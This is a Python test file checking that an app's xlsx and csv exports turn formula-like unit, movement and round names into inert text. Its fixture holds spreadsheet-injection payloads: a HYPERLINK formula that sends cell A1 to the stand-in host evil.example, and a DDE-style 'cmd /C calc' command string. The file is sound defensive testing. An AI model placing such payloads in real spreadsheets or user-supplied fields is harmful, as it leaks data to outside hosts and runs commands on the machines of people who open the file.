"""Formula-like text (=, +, -, @) in names is neutralised in every spreadsheet the app writes."""

import csv
import io

import openpyxl
import pytest

from emulation.exports.cells import FORMULA_STARTS
from emulation.exports.ranking import export_round
from emulation.extensions import db
from emulation.reports import RENDERERS, build_report

from .authz._world import AFTER, build_world

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def hostile(make, set_now):
    """Names that a spreadsheet would run as formulas."""
    w = build_world(make, set_now)
    w.units["A"].name = HYPERLINK
    w.units["A"].cluster.name = "@SUM(1+1)"
    w.movement.name = "+cmd|' /C calc'!A0"
    w.round.name = "-2+3"
    db.session.commit()
    return w


def _text_cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def _assert_inert(book):
    seen = False
    for title, cell in _text_cells(book):
        assert cell.data_type != "f", f"{title}!{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), f"{title}!{cell.coordinate}"
            seen |= cell.value == "'" + HYPERLINK
    assert seen, "the hostile name should be in the workbook, as text"


def test_report_workbook_keeps_formulas_as_text(hostile):
    report = build_report(hostile.round, now=AFTER)
    book = openpyxl.load_workbook(io.BytesIO(RENDERERS["xlsx"][0](report, charts={})))
    _assert_inert(book)


def test_ranking_export_workbook_keeps_formulas_as_text(hostile):
    _assert_inert(openpyxl.load_workbook(io.BytesIO(export_round(hostile.round, "xlsx"))))


def test_ranking_export_csv_keeps_formulas_as_text(hostile):
    text = export_round(hostile.round, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HYPERLINK in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
